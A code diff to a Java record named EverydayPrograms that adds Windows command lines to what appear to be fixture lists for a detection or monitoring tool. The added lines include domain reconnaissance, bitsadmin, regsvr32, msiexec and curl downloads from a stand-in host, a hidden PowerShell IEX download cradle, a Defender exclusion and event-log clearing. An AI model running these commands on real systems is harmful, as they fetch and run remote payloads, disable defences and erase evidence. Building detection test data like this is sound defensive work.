@@ -31,6 +31,39 @@ record EverydayPrograms(Everyday everyday) {
           new Command(Programs.WMIC, "wmic.exe os get caption"),
           new Command(Programs.SCHTASKS, "schtasks.exe /query /fo csv"),
           new Command(Programs.NLTEST, "nltest /dclist:northwhale"),
+          new Command(Programs.NLTEST, "nltest /domain_trusts"),
+          new Command(Programs.NET, "net group \"Domain Admins\" /domain"),
+          new Command(Programs.NET, "net view /domain"),
+          new Command(Programs.WHOAMI, "whoami /all"),
+          new Command(Programs.REG, "reg query HKLM\\SYSTEM\\CurrentControlSet\\Services"),
+          new Command(
+              Programs.SC, "sc.exe create shelfscan binPath= C:\\ProgramData\\Shelfscan\\s.exe"),
+          new Command(
+              Programs.BITSADMIN, "bitsadmin /transfer shelf https://dl.shelf.example/b c:\\b"),
+          new Command(
+              Programs.REGSVR32, "regsvr32 /s /u /i:https://dl.shelf.example/s.sct scrobj.dll"),
+          new Command(Programs.WMIC, "wmic /node:files01 process call create \"cmd.exe /c ver\""),
+          new Command(
+              Programs.SCHTASKS, "schtasks /create /tn Shelf\\Collect /tr collect.cmd /sc daily"),
+          new Command(Programs.system("netstat.exe"), "netstat -ano"),
+          new Command(Programs.system("arp.exe"), "arp -a"),
+          new Command(Programs.system("route.exe"), "route print"),
+          new Command(Programs.system("quser.exe"), "quser"),
+          new Command(Programs.system("hostname.exe"), "hostname"),
+          new Command(Programs.system("PING.EXE"), "ping -n 2 files01.northwhale.example"),
+          new Command(Programs.system("gpresult.exe"), "gpresult /r"),
+          new Command(Programs.system("wevtutil.exe"), "wevtutil qe System /c:20 /f:text"),
+          new Command(Programs.system("wevtutil.exe"), "wevtutil cl Setup"),
+          new Command(Programs.system("netsh.exe"), "netsh advfirewall show allprofiles"),
+          new Command(Programs.system("netsh.exe"), "netsh interface portproxy show all"),
+          new Command(Programs.system("bcdedit.exe"), "bcdedit /enum"),
+          new Command(
+              Programs.system("cscript.exe"), "cscript.exe //B C:\\ProgramData\\Shelfscan\\a.js"),
+          new Command(
+              Programs.system("msiexec.exe"), "msiexec /q /i https://dl.shelf.example/s.msi"),
+          new Command(
+              Programs.system("curl.exe"), "curl.exe -L -o s.zip https://dl.shelf.example/s.zip"),
+          new Command(Programs.system("mstsc.exe"), "mstsc.exe /v:jump01.northwhale.example"),
           new Command(Programs.WSCRIPT, "wscript.exe C:\\ProgramData\\Shelfscan\\tidy.vbs"));
 
   private static final List<String> SHELL =
@@ -40,7 +73,11 @@ record EverydayPrograms(Everyday everyday) {
           "powershell.exe",
           "PowerShell.exe -ExecutionPolicy Bypass -File \\\\files01\\tools\\update.ps1",
           "powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBEAGEAdABlAA==",
-          "powershell.exe -Command \"Invoke-WebRequest https://dl.shelf.example/list.txt\"");
+          "powershell.exe -Command \"Invoke-WebRequest https://dl.shelf.example/list.txt\"",
+          "powershell.exe -nop -w hidden -c \"IEX (New-Object"
+              + " Net.WebClient).DownloadString('https://dl.shelf.example/setup.ps1')\"",
+          "powershell.exe -Command \"Add-MpPreference -ExclusionPath C:\\ProgramData\\Shelfscan\"",
+          "powershell.exe -Command \"Get-ADUser -Filter * | Export-Csv people.csv\"");
 
   private static final List<String> LINES =
       List.of(
